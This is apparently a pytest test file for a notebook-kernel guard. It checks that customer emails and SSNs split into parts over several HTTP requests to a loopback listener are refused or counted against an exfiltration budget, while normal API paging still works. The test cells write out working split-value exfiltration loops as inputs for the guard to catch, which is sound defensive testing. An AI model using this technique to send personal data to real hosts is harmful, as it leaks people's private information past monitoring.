"""A sensitive value cut into parts, one per HTTP request, in a real kernel against a loopback
listener: the part that completes a known value is refused as ``exfiltration`` (a host not in
``network.allow_hosts``) or counted against the exfiltration budget (an allowed host), and the
listener never gets it. Paging through an API with short query values still works."""
from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import new_workspace
from tests.enforce.test_exits import Recorder, wait_for
from tests.kernelutil import Kernel, guarded_kernel

pytestmark = pytest.mark.kernel


@pytest.fixture()
def rec() -> Iterator[Recorder]:
    r = Recorder()
    yield r
    r.close()


def _start(kern: Kernel, rec: Recorder) -> None:
    kern.ok("import duckdb, urllib.request as u\n"
            "df = duckdb.connect('wh.duckdb').sql('SELECT * FROM customers ORDER BY id').df()\n"
            f"URL = 'http://127.0.0.1:{rec.port}/'")


@pytest.fixture()
def k(work_root: Path, rec: Recorder) -> Iterator[Kernel]:
    with guarded_kernel(new_workspace(work_root), {"JUPYTER_GUARD_USER": "tester"},
                        warehouse=100) as kern:
        _start(kern, rec)
        yield kern


@pytest.mark.parametrize(("column", "cut", "tail"), [
    pytest.param("email", 3, b"xample.com", id="email-after-3"),
    pytest.param("ssn", 4, None, id="ssn-halves"),
])
def test_a_value_in_parts_is_refused_at_the_part_that_completes_it(k, rec, column, cut, tail):
    r = k.blocked(f"for v in df.{column}[:20]:\n"
                  f"    u.urlopen(URL + '?a=' + v[:{cut}]).read()\n"
                  f"    u.urlopen(URL + '?b=' + v[{cut}:]).read()", "exfiltration")
    assert "exfiltration" in r.everything()
    assert wait_for(lambda: b"GET /?a=" in rec.received)   # the first part went out
    got = bytes(rec.received)
    assert b"GET /?b=" not in got, got[:300]   # the part completing it did not
    if tail is not None:
        assert tail not in got


def test_an_e_mails_first_part_holding_its_local_part_is_refused(k, rec):
    """``user0@e`` holds the whole local part, which names the person (``user0``): refused as
    it is, so no part leaves (the cell ends on the refusal: ``urlopen`` sends synchronously)."""
    r = k.blocked("for v in df.email[:20]:\n"
                  "    u.urlopen(URL + '?a=' + v[:7]).read()\n"
                  "    u.urlopen(URL + '?b=' + v[7:]).read()", "exfiltration")
    assert "exfiltration" in r.everything()
    assert b"GET /?" not in bytes(rec.received), bytes(rec.received)[:300]


def test_paging_and_repeated_queries_still_work(k, rec):
    r = k.ok("for page in range(1, 40):\n"
             "    u.urlopen(URL + f'?page={page}&size=50&city=Paris').read()\n"
             "for code in ['PRD-1', '0001', '234', '5678', '9']:\n"
             "    u.urlopen(URL + '?q=' + code).read()\nprint('done')")
    assert "done" in r.everything()
    assert wait_for(lambda: b"GET /?q=9 " in rec.received)


def test_parts_sent_to_an_allowed_host_count_against_the_budget(work_root, rec):
    policy = ("version: 1\nextends: default\nnetwork:\n  allow_hosts: ['127.0.0.1']\n"
              "exfiltration:\n  max_sensitive_values_per_session: 5\n")
    with guarded_kernel(new_workspace(work_root), {"JUPYTER_GUARD_USER": "ann"},
                        policy=policy, warehouse=100) as kern:
        _start(kern, rec)
        r = kern.run("for e in df.email[:20]:\n"
                     "    u.urlopen(URL + '?a=' + e[:7]).read()\n"
                     "    u.urlopen(URL + '?b=' + e[7:]).read()")
        assert r.status == "error" and "budget" in r.everything(), r.everything()
        got = bytes(rec.received)
        assert got.count(b"GET /?b=") <= 5, got.count(b"GET /?b=")
